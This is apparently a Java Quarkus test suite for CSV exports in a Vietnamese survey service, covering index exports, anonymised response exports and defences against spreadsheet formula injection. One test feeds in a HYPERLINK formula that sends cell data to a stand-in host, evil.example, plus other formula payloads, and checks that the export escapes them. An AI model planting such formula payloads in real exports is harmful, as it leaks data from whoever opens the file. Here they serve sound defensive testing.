package vn.parsipas.survey.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

import org.junit.jupiter.api.Test;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import vn.parsipas.contracts.sipas.SurveyResponseSubmitted;
import vn.parsipas.survey.Fixtures;
import vn.parsipas.survey.SurveyServiceTest;

@QuarkusTest
@SurveyServiceTest
class ExportTest {
    @Test
    void theIndicesExportAsCsvWithTheirVietnameseNamesAndIntervals() {
        String agency = Fixtures.uniqueAgency();
        Fixtures.agencies(agency);
        submit(List.of(Fixtures.response(agency, Instant.parse("2018-05-02T02:00:00Z"), 5),
                Fixtures.response(agency, Instant.parse("2018-05-03T02:00:00Z"), 2)));

        byte[] csv = Fixtures.asCoordinator().queryParam("scope", agency).queryParam("period", "2018-Q2").get("/api/v1/exports/indices.csv")
                .then().statusCode(200).contentType("text/csv").extract().asByteArray();

        List<String> lines = lines(csv);
        assertThat(lines.get(0)).isEqualTo("\uFEFFsubIndex,subIndexName,scope,period,responses,enoughResponses,validAnswers,satisfiedAnswers,"
                + "satisfiedPercent,intervalLowPercent,intervalHighPercent,targetId,targetPercent,belowTarget,updatedAt");
        assertThat(lines).hasSize(4);
        assertThat(lines.get(2)).startsWith("2.2.2,Chỉ số hài lòng về TTHC," + agency + ",2018-Q2,2,false,4,2,50.00,15.00,85.00,,,false,");
    }

    @Test
    void responsesExportAnonymisedWithOneColumnPerQuestionAcrossChunks() {
        String agency = Fixtures.uniqueAgency();
        Fixtures.agencies(agency);
        String code = Fixtures.uniqueReceipt();
        Fixtures.registerReceipt(code, agency);
        // 00:30 on 1 Nov 2017 in Hanoi is 17:30 UTC on 31 Oct: the export shows the local day.
        submit(List.of(Fixtures.response(agency, code, Instant.parse("2017-10-31T17:30:00Z"), 5)));
        for (int batch = 0; batch < 5; batch++) {
            submit(IntStream.range(0, batch < 4 ? 500 : 1).mapToObj(i -> Fixtures.response(agency, Instant.parse("2017-11-02T02:00:00Z"), 3))
                    .toList());
        }

        byte[] csv = Fixtures.asCoordinator().queryParam("questionnaireId", "sipas-2025").queryParam("version", 1).queryParam("from", "2017-10-01")
                .queryParam("to", "2017-12-31").queryParam("agency", agency).get("/api/v1/exports/responses.csv")
                .then().statusCode(200).contentType("text/csv").extract().asByteArray();

        List<String> lines = lines(csv);
        assertThat(lines).hasSize(1 + 2002);
        assertThat(lines.get(0)).startsWith("\uFEFFquestionnaireId,questionnaireVersion,agencyCode,procedureCode,channel,submittedOn,"
                + "ageBand,gender,ethnicGroup,expectations,2.2.1-q1,2.2.1-q2,2.2.1-q3,2.2.1-q4,2.2.2-q1").endsWith("2.1.4-q2");
        assertThat(lines.get(1)).isEqualTo("sipas-2025,1," + agency + ",1.001193,counter,2017-11-01,35-44,female,Ê Đê,"
                + "shorter-processing-time,5,5,,,5,5,,,,5,5,,,,,,,,,,,,,,,,,,,");
        assertThat(new String(csv, StandardCharsets.UTF_8)).doesNotContain(code);
        assertThat(lines.subList(1, lines.size())).allSatisfy(line -> assertThat(line).startsWith("sipas-2025,1," + agency));
    }

    @Test
    void cellsASpreadsheetWouldRunAsAFormulaAreExportedAsText() {
        String agency = Fixtures.uniqueAgency();
        Fixtures.agencies(agency);
        List<String> procedures = List.of("=HYPERLINK(\"https://evil.example/?\"&A2,\"Chi tiết\")", "+1+1", "-2+3", "@SUM(A1:A9)");
        submit(procedures.stream().map(procedure -> {
            SurveyResponseSubmitted r = Fixtures.response(agency, Instant.parse("2016-03-01T02:00:00Z"), 4);
            return new SurveyResponseSubmitted(r.responseId(), r.questionnaireId(), r.questionnaireVersion(), null, null, agency, procedure,
                    r.channel(), r.submittedAt(), r.answers(), r.expectations(), r.respondent());
        }).toList());

        String csv = new String(Fixtures.asCoordinator().queryParam("questionnaireId", "sipas-2025").queryParam("version", 1)
                .queryParam("from", "2016-03-01").queryParam("to", "2016-03-01").queryParam("agency", agency)
                .get("/api/v1/exports/responses.csv").then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8);

        assertThat(csv).contains("," + agency + ",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Chi tiết\"\")\",counter,",
                "," + agency + ",'+1+1,counter,", "," + agency + ",'-2+3,counter,", "," + agency + ",'@SUM(A1:A9),counter,");
    }

    private static List<String> lines(byte[] csv) {
        return List.of(new String(csv, StandardCharsets.UTF_8).split("\r\n"));
    }

    private static void submit(List<SurveyResponseSubmitted> responses) {
        Fixtures.asKiosk().contentType(ContentType.JSON).body(Map.of("responses", responses.stream().map(Fixtures::json).toList()))
                .post("/api/v1/responses/batch").then().statusCode(200).body("counts.accepted", org.hamcrest.Matchers.equalTo(responses.size()));
    }
}
